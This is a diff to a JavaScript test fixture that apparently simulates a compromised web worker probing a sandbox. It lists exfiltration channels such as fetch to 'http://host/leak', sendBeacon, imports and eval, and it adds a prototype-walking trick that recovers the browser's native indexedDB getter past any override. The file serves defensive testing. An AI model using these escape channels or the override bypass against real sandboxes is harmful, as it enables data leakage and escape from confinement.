@@ -2,6 +2,9 @@
  * Stands for a worker that fell into the wrong hands: it answers like one of insitu, and a run makes it try what its input says,
  * e.g. `fetch http://host/leak`. The answer is what came of it.
  */
+// What `silence` breaks, the other attempts need.
+const { getOwnPropertyDescriptor, getPrototypeOf } = Object;
+
 const attempts = {
   fetch: async (url) => (await fetch(url, { mode: 'no-cors' })).type,
   XMLHttpRequest: (url) =>
@@ -18,6 +21,7 @@ const attempts = {
   'import-url': (url) => import(url),
   'import-data': () => import('data:text/javascript,export default 1'),
   importScripts: (url) => importScripts(url),
+  // oxlint-disable-next-line no-eval -- It is hostile.
   eval: () => (0, eval)('1 + 1'),
   nested: (url) => {
     const source = `fetch(${JSON.stringify(url)}).then(() => postMessage(1), () => postMessage(0))`;
@@ -28,6 +32,15 @@ const attempts = {
   WebTransport: (url) => new WebTransport(url.replace('http:', 'https:')).ready,
   sendBeacon: (url) => navigator.sendBeacon(url, 'leak'),
   indexedDB: () => untilEither(indexedDB.open('leak'), 'success'),
+  /** Past whatever stands before it: the browser's own getter, where there is one. */
+  'dug-up': () => {
+    let holder = self;
+    let getter;
+    while ((holder = getPrototypeOf(holder))) {
+      getter ??= getOwnPropertyDescriptor(holder, 'indexedDB')?.get;
+    }
+    return untilEither(Reflect.apply(getter, self, []).open('leak'), 'success');
+  },
   caches: () => caches.open('leak'),
   BroadcastChannel: () => new BroadcastChannel('leak').postMessage('leak'),
   storage: () => navigator.storage.estimate(),
